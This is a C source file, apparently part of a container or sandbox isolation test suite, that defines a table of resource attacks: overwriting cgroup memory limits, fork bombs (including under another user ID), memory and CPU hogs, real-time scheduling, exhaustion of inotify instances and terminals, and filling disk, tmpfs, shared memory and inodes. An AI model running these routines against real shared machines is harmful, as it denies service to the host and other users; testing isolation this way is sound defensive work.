/* The machine's memory, time, processes and disk. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { MIB = 1 << 20 };

/* 16: an attacker who can write to the files of a cgroup sets its limits. */
static int raise_limit(void)
{
    if (overwrite(host.argument, "max") == 0 || overwrite(host.argument, "-1") == 0)
        return 0; /* this is outside of any container */
    if (mount("cgroup", "mnt", "cgroup2", 0, NULL) == 0 && overwrite("mnt/memory.max", "max") == 0)
        return 0;
    if (mount("cgroup", "mnt", "cgroup", 0, "memory") < 0)
        return -1;
    overwrite("mnt/memory.memsw.limit_in_bytes", "-1"); /* it must not be below the other */
    return overwrite("mnt/memory.limit_in_bytes", "-1");
}

/* Starts a child that does something until it is killed, or until its parent has ended. */
static pid_t start(void (*act)(void))
{
    pid_t child = fork();

    if (child == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        act();
        _exit(0);
    }
    return child;
}

static void wait_for_ever(void)
{
    for (;;)
        pause();
}

/* 28: each process needs a number and kernel memory. Without both, nobody can start a process. */
static int fork_bomb(void)
{
    enum { MORE_THAN_A_CONTAINER_NEEDS = 300 };

    for (int i = 0; i < MORE_THAN_A_CONTAINER_NEEDS; i++)
        if (start(wait_for_ever) < 0)
            return -1;
    return 0;
}

/* Starts processes as another user, where there is one, and waits. It exits with 0, or with errno.
 */
static void bomb_as_another_user(void)
{
    enum { BOTH_ARE_MORE_THAN_A_CONTAINER_NEEDS = 200 };

    if (setuid(1) < 0)
        _exit(errno);
    for (int i = 0; i < BOTH_ARE_MORE_THAN_A_CONTAINER_NEEDS; i++)
        if (start(wait_for_ever) < 0)
            _exit(errno);
}

/* 28: the limit of a user's processes does not count those of another user. */
static int fork_bomb_of_users(void)
{
    int status;

    for (int i = 0; i < 200; i++)
        if (start(wait_for_ever) < 0)
            return -1;
    if (waitpid(start(bomb_as_another_user), &status, 0) < 0)
        return -1;
    errno = WEXITSTATUS(status);
    if (errno == EINVAL || errno == EPERM)
        return not_here("there is no other user");
    return errno ? -1 : 0;
}

static void use_memory_of(int pieces)
{
    for (int i = 0; i < pieces; i++) {
        char *piece = mmap(NULL, MIB, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

        if (piece == MAP_FAILED)
            _exit(errno);
        memset(piece, 1, MIB);
    }
}

static void use_memory(void)
{
    use_memory_of(640); /* more than a container needs */
}

static void use_a_part(void)
{
    use_memory_of(320);
}

/* Starts a process that uses memory, and waits. Returns 0, or -1 with errno. */
static int see_used(void (*act)(void))
{
    int status;

    if (waitpid(start(act), &status, 0) < 0)
        return -1;
    if (WIFSIGNALED(status))
        return stopped("SIGKILL");
    errno = WEXITSTATUS(status);
    return errno ? -1 : 0;
}

static void use_a_part_and_stop(void)
{
    use_a_part();
    raise(SIGSTOP);
}

/* 29: the limit of a process does not count the memory of another. The kernel may kill either. */
static int memory_hogs(void)
{
    int status;
    pid_t first = start(use_a_part_and_stop);

    if (waitpid(first, &status, WUNTRACED) < 0)
        return -1;
    if (!WIFSTOPPED(status))
        return stopped("the first is killed");
    if (see_used(use_a_part) < 0)
        return -1;
    return waitpid(first, &status, WNOHANG) == 0 ? 0 : stopped("SIGKILL");
}

/* 29: when memory runs out, the kernel kills processes, and not only those that took it. */
static int memory_hog(void)
{
    return see_used(use_memory);
}

/* 29: huge pages are the host's. Few machines have a limit for them. The first touch takes one. */
static int huge_pages(void)
{
    enum { HUGE = MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB | MAP_NORESERVE, SIZE = 2 * MIB };

    return mmap(NULL, SIZE, PROT_READ | PROT_WRITE, HUGE, -1, 0) == MAP_FAILED ? -1 : 0;
}

static double seconds(clockid_t clock)
{
    struct timespec now;

    clock_gettime(clock, &now);
    return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

static void use_processor(void)
{
    double end = seconds(CLOCK_MONOTONIC) + 1;

    while (seconds(CLOCK_MONOTONIC) < end)
        ;
}

/* Returns how many processors two children had. */
static double processors_used(void)
{
    double begin = seconds(CLOCK_MONOTONIC), used = 0;
    struct rusage usage;

    start(use_processor);
    start(use_processor);
    for (int i = 0; i < 2; i++)
        if (wait4(-1, NULL, 0, &usage) > 0)
            used += (double)usage.ru_utime.tv_sec + (double)usage.ru_utime.tv_usec / 1e6 +
                    (double)usage.ru_stime.tv_sec + (double)usage.ru_stime.tv_usec / 1e6;
    return used / (seconds(CLOCK_MONOTONIC) - begin);
}

/* 30: it takes more than one processor's time. Other processes may disturb it once or twice. */
static int cpu_hog(void)
{
    if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
        return not_here("there is but one processor");
    for (int i = 0; i < 3; i++)
        if (processors_used() > 1.5)
            return 0;
    return stopped("throttled");
}

static int write_pieces(const char *path, int pieces)
{
    static char piece[MIB];
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);

    if (fd < 0)
        return -1;
    for (int i = 0; i < pieces; i++)
        if (write(fd, piece, MIB) < MIB)
            return -1;
    return close(fd);
}

/* 30: a process with a real-time policy, or one that may have it, has a CPU for itself. */
static int real_time(void)
{
    const struct sched_param least_priority = {.sched_priority = 1};

    if (sched_getscheduler(0) == SCHED_FIFO)
        return 0;
    return sched_setscheduler(0, SCHED_FIFO, &least_priority);
}

/* 43: the user of the host who started the container may have 128 instances in all. */
static int inotify_instances(void)
{
    for (int i = 0; i < 100; i++)
        if (inotify_init() < 0)
            return -1;
    return 0;
}

/* 43: the machine has 4096 terminals in all, and keeps 1024 of them for the host. */
static int terminals(void)
{
    const char *path = "/dev/ptmx";

    if (access(path, F_OK) < 0) {
        if (mount("devpts", "mnt", "devpts", 0, "ptmxmode=0666") < 0)
            return -1;
        path = "mnt/ptmx";
    }
    for (int i = 0; i < 300; i++)
        if (open(path, O_RDWR | O_NOCTTY) < 0)
            return -1;
    return 0;
}

/* 38: a file written inside is on the host's disk, and others need that disk. */
static int fill_disk(void)
{
    return write_pieces("big", 48);
}

/* 38: what is in a tmpfs is in the host's memory. Where there is no such folder, we make one. */
static int fill_shm(void)
{
    mkdir("dev/shm", 0700);
    return write_pieces("dev/shm/big", 48);
}

/* 38: each of them alone is within the limit. */
static int fill_tmpfs(void)
{
    mkdir("one", 0700);
    mkdir("two", 0700);
    return write_pieces("one/big", 12) < 0 ? -1 : write_pieces("two/big", 12);
}

/* 38: a file without content is a piece of the kernel's memory, or of the disk's table of files. */
static int fill_files(void)
{
    for (int i = 0; i < 5000; i++)
        if (opened(open(format("tmp/%d", i), O_WRONLY | O_CREAT, 0600)) < 0)
            return -1;
    return 0;
}

const struct attack resource_attacks[] = {
    {"raise_limit", raise_limit},
    {"fork_bomb", fork_bomb},
    {"fork_bomb_of_users", fork_bomb_of_users},
    {"memory_hog", memory_hog},
    {"memory_hogs", memory_hogs},
    {"huge_pages", huge_pages},
    {"cpu_hog", cpu_hog},
    {"real_time", real_time},
    {"inotify_instances", inotify_instances},
    {"terminals", terminals},
    {"fill_disk", fill_disk},
    {"fill_shm", fill_shm},
    {"fill_tmpfs", fill_tmpfs},
    {"fill_files", fill_files},
    {"fill_kept", fill_disk},
    {0},
};
